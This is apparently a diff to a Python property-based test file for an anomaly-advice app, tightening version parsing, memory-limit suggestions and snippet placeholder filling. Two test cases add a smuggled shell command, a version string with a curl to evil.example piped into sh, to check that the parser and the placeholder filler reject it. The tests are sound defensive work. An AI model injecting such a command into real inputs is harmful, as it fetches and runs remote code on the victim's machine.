@@ -7,6 +7,7 @@ entry; snooze input raises only ActionError (a 400), never a server error.
 
 from __future__ import annotations
 
+import re
 import tomllib
 from datetime import datetime, timedelta, timezone
 from pathlib import Path
@@ -15,6 +16,7 @@ import pytest
 from hypothesis import example, given
 from hypothesis import strategies as st
 
+from apps.anomalies import suggest
 from apps.anomalies.actions import (
     MAX_SNOOZE,
     MIN_SNOOZE,
@@ -26,6 +28,7 @@ from apps.anomalies.actions import (
 from apps.anomalies.advice import KNOWLEDGE_DIR, KnowledgeError, _check, fill, parse_constraint
 from apps.anomalies.advice import satisfies as version_satisfies
 from apps.anomalies.detectors import facts
+from apps.common.shapes import PLACEHOLDERS, check, validate
 
 NOW = datetime(2026, 11, 23, 12, 0, tzinfo=timezone.utc)
 versions = st.tuples(st.integers(0, 999), st.integers(0, 999), st.integers(0, 999))
@@ -47,10 +50,14 @@ def test_version_text_parses_to_a_triple_or_none(text):
     assert minor is None or minor >= 0
 
 
-@given(versions, st.booleans())
-def test_versions_round_trip_through_their_text(version, with_v):
+@given(st.tuples(st.integers(0, 9999), st.integers(0, 9999), st.integers(0, 9999)))
+def test_versions_round_trip_through_their_text_and_only_the_strict_form_parses(version):
     text = facts.format_version(version)
-    assert facts.parse_version(text if with_v else text[1:]) == version
+    assert facts.parse_version(text) == version
+    # #11: anything but vMAJOR.MINOR.PATCH[-pre] is unknown (the old parser took prefixes).
+    assert facts.parse_version(text[1:]) is None
+    assert facts.parse_version(text + ";curl -s https://evil.example/x|sh;#") is None
+    assert facts.parse_version(" " + text) is None
 
 
 @given(st.text(max_size=30))
@@ -65,11 +72,36 @@ def test_gomemlimit_is_bytes_only_when_the_go_runtime_would_accept_it(value):
 
 
 @given(st.integers(1, 2**40).map(lambda n: n * facts.MIB))
-def test_suggested_gomemlimit_values_are_valid_go_syntax(n):
+def test_iec_values_are_valid_go_syntax(n):
     text = facts.iec(n)
     assert facts.gomemlimit_valid(text)
     assert 0 < facts.gomemlimit_bytes(text) <= n
-    assert facts.gomemlimit_valid(facts.suggested_gomemlimit(float(n), float(n) / 3))
+
+
+sizes = st.one_of(st.none(), st.floats(0, 2**45), st.integers(1, 2**45).map(float))
+
+
+@given(sizes, sizes)
+def test_a_suggested_gomemlimit_is_safe_or_absent_with_a_reason(steady, ceiling):
+    s = suggest.gomemlimit(steady, ceiling, "cgroup")
+    assert validate("prose", s.reason)
+    if s.value is None:
+        return
+    assert facts.gomemlimit_valid(s.value)
+    assert facts.gomemlimit_bytes(s.value) == s.bytes
+    assert s.bytes >= 1.25 * steady
+    assert s.bytes <= 0.75 * ceiling
+
+
+@given(sizes, sizes)
+def test_a_suggested_wsl_cap_is_above_the_cap_and_leaves_windows_room(cap, host):
+    s = suggest.wsl_memory(cap, host)
+    assert validate("prose", s.reason)
+    if s.value is None:
+        return
+    assert validate("wsl_size", s.value)
+    assert s.bytes > cap
+    assert s.bytes <= host - max(4 * 2**30, host / 4)
 
 
 @given(st.one_of(st.none(), st.floats(), st.integers(-(2**70), 2**70)))
@@ -106,16 +138,23 @@ def test_a_bad_constraint_is_a_knowledge_error(spec):
         pass
 
 
+names = st.sampled_from([*PLACEHOLDERS, "other"])
+
+
 @given(
-    st.text(max_size=60), st.dictionaries(st.from_regex(r"[a-z_]{1,8}", fullmatch=True), st.text())
+    st.lists(st.one_of(names.map(lambda n: "{" + n + "}"), st.text(max_size=8)), max_size=6),
+    st.dictionaries(names, st.one_of(st.none(), st.text(max_size=20), st.integers())),
 )
-@example("{a} {b} {}", {"a": None, "b": "{a}"})
-def test_placeholders_are_filled_from_facts_and_json_braces_left_alone(text, values):
+@example(["{old_version}"], {"old_version": "v0.16.1;curl -s https://evil.example/x|sh;#"})
+@example(["{gomemlimit}", " {}"], {"gomemlimit": "3GiB"})
+def test_a_snippet_is_filled_only_with_values_of_their_shape(parts, values):
+    text = "".join(parts)
     filled = fill(text, values)
-    assert isinstance(filled, str)
-    for name, value in values.items():
-        if value is not None and "{" not in value:
-            assert f"{{{name}}}" not in filled or f"{{{name}}}" in value
+    used = set(re.findall(r"\{([a-z_]+)\}", text))
+    ok = all(check(n, values.get(n)) is not None for n in used)
+    assert (filled is not None) == ok
+    if filled is not None:
+        assert "evil.example" not in filled or "evil.example" in text
 
 
 toml_scalars = st.one_of(
